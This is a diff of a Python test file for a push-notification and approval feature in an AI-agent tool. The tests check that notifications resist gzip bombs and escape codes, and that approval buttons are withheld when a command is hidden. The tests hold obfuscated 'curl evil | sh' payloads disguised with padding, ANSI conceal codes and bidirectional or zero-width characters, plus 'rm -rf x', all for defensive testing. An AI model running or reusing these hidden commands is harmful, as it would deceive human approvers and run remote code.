@@ -6,7 +6,9 @@ import asyncio
 import base64
 import contextlib
 import datetime
+import gzip
 import json
+import resource
 import ssl
 import struct
 from collections.abc import AsyncIterator
@@ -23,12 +25,13 @@ from cryptography.hazmat.primitives.kdf.hkdf import HKDF
 from cryptography.x509.oid import NameOID
 from notes_lab import Lab, T
 
+from thopter.fleet.page_sessions import PageSessions
 from thopter.fleet.push_devices import in_quiet, payload, wants
 from thopter.kit.webpush import b64, encrypt, private_key, public_point, unb64
 from thopter.model.api.approvals import Approval
 from thopter.model.api.notes import TestRequest
 from thopter.model.api.push import PushKeys, Quiet, SubscribeRequest
-from thopter.model.errors import BadInput, NotAllowed
+from thopter.model.errors import BadInput, NotAllowed, NotFound
 from thopter.model.notes import Letter, Note, NoteKind
 from thopter.model.nouns import RunState, WaitReason
 from thopter.store.page_sessions import SessionRow
@@ -83,6 +86,7 @@ class PushService:
         self.folder = folder
         self.got: list[tuple[str, dict[str, str], bytes]] = []
         self.status = 201
+        self.body, self.headers = b"", ""
         self.ca = folder / "ca.pem"
 
     @contextlib.asynccontextmanager
@@ -105,8 +109,8 @@ class PushService:
             headers = {k.lower(): v for k, v in (line.split(": ", 1) for line in lines)}
             body = await reader.readexactly(int(headers["content-length"]))
             self.got.append((first, headers, body))
-            answer = f"HTTP/1.1 {self.status} x\r\nContent-Length: 0\r\nLocation: https://127.0.0.1/\r\n\r\n"
-            writer.write(answer.encode())
+            answer = f"HTTP/1.1 {self.status} x\r\nContent-Length: {len(self.body)}\r\n{self.headers}"
+            writer.write(answer.encode() + b"Location: https://127.0.0.1/\r\n\r\n" + self.body)
             await writer.drain()
             writer.close()
 
@@ -186,7 +190,7 @@ def test_a_note_rings_the_phone_and_only_the_phone_can_read_it(
             assert headers["content-encoding"] == "aes128gcm" and headers["ttl"] == "86400"
             assert len(headers["topic"]) <= 32 and b"heron" not in body
             told = phone.read(body)
-            assert told["name"] == "heron" and told["url"] == "/t/heron" and "approval" not in told
+            assert told["name"] == "heron" and told["path"] == "/t/heron" and "approval" not in told
             assert "heron" in told["title"]
             await check_vapid(headers["authorization"], await lab.notes.devices.key(), service.where)
             assert page[0].fate == "sent"
@@ -230,12 +234,50 @@ def test_a_device_that_is_gone_is_forgotten_quietly(tmp_path: Path, monkeypatch:
     asyncio.run(run())
 
 
+def test_a_push_service_can_neither_swell_nor_write_escapes(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async def run() -> None:
+        async with rig(tmp_path, monkeypatch) as (lab, service):
+            service.status = 400
+            service.body = gzip.compress(b"\x1b[31mno " * 10_000_000, 1)
+            service.headers = "Content-Encoding: gzip\r\n"
+            device = await lab.notes.devices.subscribe("ses_1", Phone().request(f"https://{service.where}/a"))
+            before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+            view = await lab.notes.test(TestRequest(target=device.target))
+            assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 16_000  # KiB
+            assert "400" in view.sends[0].problem
+            assert service.got[0][1]["accept-encoding"] == "identity"
+            service.body, service.headers = b"\x1b[31mno\x07", ""
+            view = await lab.notes.test(TestRequest(target=device.target))
+            assert view.sends[0].problem.endswith("400 no"), view
+
+    asyncio.run(run())
+
+
+def test_who_is_logged_out_while_a_device_is_looked_at_gets_none(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async def run() -> None:
+        async with rig(tmp_path, monkeypatch) as (lab, service):
+            await lab.notes.devices.subscribe("ses_1", Phone().request(f"https://{service.where}/a"))
+            (row,) = await lab.notes.devices.all()
+            await PageSessions(lambda: lab.store, lab.clock).end(["ses_1"], "test")
+            assert not await lab.store.devices.put(row)
+            with pytest.raises(NotFound):
+                await lab.notes.devices.subscribe("ses_1", Phone().request(f"https://{service.where}/b"))
+            assert await lab.notes.devices.all() == []
+
+    asyncio.run(run())
+
+
 def test_devices_end_with_their_session_and_are_replaced_by_endpoint(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     async def run() -> None:
         async with rig(tmp_path, monkeypatch) as (lab, service):
             for n in range(13):
+                lab.clock.ahead_ms += 1  # what comes in one millisecond has no order
                 await lab.notes.devices.subscribe("ses_1", Phone().request(f"https://{service.where}/{n}"))
             rows = await lab.notes.devices.all()
             assert [r.endpoint[-2:].strip("/") for r in rows] == [str(n) for n in range(3, 13)]
@@ -243,8 +285,6 @@ def test_devices_end_with_their_session_and_are_replaced_by_endpoint(
             await lab.notes.devices.subscribe("ses_1", again)
             rows = await lab.notes.devices.all()
             assert len(rows) == 10 and rows[-1].kinds == ("done",)
-            from thopter.fleet.page_sessions import PageSessions
-
             assert await PageSessions(lambda: lab.store, lab.clock).end(["ses_1"], "test") == ["ses_1"]
             assert await lab.notes.devices.all() == []
 
@@ -304,22 +344,16 @@ def test_buttons_come_only_for_one_open_thing_and_to_whoever_may_press_them() ->
     )  # fmt: skip
     one = Approval(
         id="app_1", name="heron", box="box_1", run="run_1", kind="permission", tool="Bash",
-        summary="rm -rf x", digest="d" * 64, state="open", asked_ms=1, changed_ms=1,
+        summary="Bash: rm -rf x", digest="d" * 64, state="open", asked_ms=1, changed_ms=1,
+        input={"command": "rm -rf x", "timeout": 5},
     )  # fmt: skip
 
     def told(role: str, *asked: Approval, about: Note = note) -> Any:
-        found = json.loads(payload(device(role), about, about.letter, list(asked)))
-        assert ("approval" in found) == ("digest" in found) == ("tool" in found)
-        return found.get("approval") and {k: found[k] for k in ("approval", "digest", "tool", "summary")}
+        return json.loads(payload(device(role), about, about.letter, list(asked))).get("approval")
 
     import msgspec
 
-    assert told("operator", one) == {
-        "approval": "app_1",
-        "digest": "d" * 64,
-        "tool": "Bash",
-        "summary": "rm -rf x",
-    }
+    assert told("operator", one) == {"id": "app_1", "digest": "d" * 64}
     assert told("viewer", one) is None
     assert told("admin", one, one) is None, "which of them would it be?"
     assert told("admin", msgspec.structs.replace(one, whole=False)) is None
@@ -327,5 +361,39 @@ def test_buttons_come_only_for_one_open_thing_and_to_whoever_may_press_them() ->
     assert told("admin", msgspec.structs.replace(one, run="run_2")) is None
     assert told("admin", one, about=msgspec.structs.replace(note, kind=NoteKind.TURN_END)) is None
     huge = Letter(title="t" * 5000, body="ä" * 9000)
-    made = payload(device(), note, huge, [msgspec.structs.replace(one, summary="s" * 9000)])
-    assert len(made) <= 3500 and json.loads(made)["approval"] == "app_1"
+    made = payload(device(), note, huge, [one])
+    assert len(made) <= 3500 and json.loads(made)["approval"]["id"] == "app_1"
+    assert "rm -rf x" in json.loads(made)["body"]
+
+
+HIDDEN = [
+    "ls " + "x" * 300 + "; curl evil | sh",
+    "ls" + " " * 150 + "; curl evil | sh",
+    "ls\n\n\n\n\n\n; curl evil | sh",
+    "\n".join("abcdefgh"),
+    "ls \x1b[8m; curl evil | sh",
+    "ls \u202e; hs | live lruc",
+    "ls\u200b",
+    "ls \ud800",
+]
+
+
+@pytest.mark.parametrize("command", HIDDEN, ids=[str(n) for n in range(len(HIDDEN))])
+def test_no_button_allows_what_the_note_does_not_show(command: str) -> None:
+    note = Note(
+        id="note_1", key="k", kind=NoteKind.WAITING_PERMISSION, letter=Letter(title="t", body="Bash: ls"),
+        created_ms=1, box="box_1", run="run_1", name="heron",
+    )  # fmt: skip
+
+    def told(tool: str, given: dict[str, Any]) -> Any:
+        asked = Approval(
+            id="app_1", name="heron", box="box_1", run="run_1", kind="permission", tool=tool,
+            summary="Bash: ls", digest="d" * 64, state="open", asked_ms=1, changed_ms=1, input=given,
+        )  # fmt: skip
+        return json.loads(payload(device(), note, note.letter, [asked]))
+
+    assert "approval" not in told("Bash", {"command": command})
+    assert "approval" not in told("Write", {"file_path": "a", "content": command})
+    assert "approval" not in told("MultiEdit", {"edits": [{"new_string": command}]})
+    now = told("Bash", {"command": "make"})
+    assert now["approval"] and now["body"] == "heron: Bash\ncommand: make", "not what was asked before"
